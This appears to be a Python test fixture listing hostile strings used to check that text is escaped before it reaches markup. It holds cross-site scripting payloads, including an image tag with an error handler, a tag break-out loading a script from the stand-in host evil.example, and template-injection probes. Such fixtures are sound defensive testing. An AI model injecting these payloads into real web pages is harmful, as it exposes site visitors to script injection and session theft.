"""Texts that would be markup where they are not escaped."""

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=http://evil.example/x onerror=alert(1)>',
    "</script></style></title><script src=//evil.example>",
    "<!--",
    "' onmouseover='alert(1)",
    "&lt;b&gt; {{7*7}} ${7}",
)
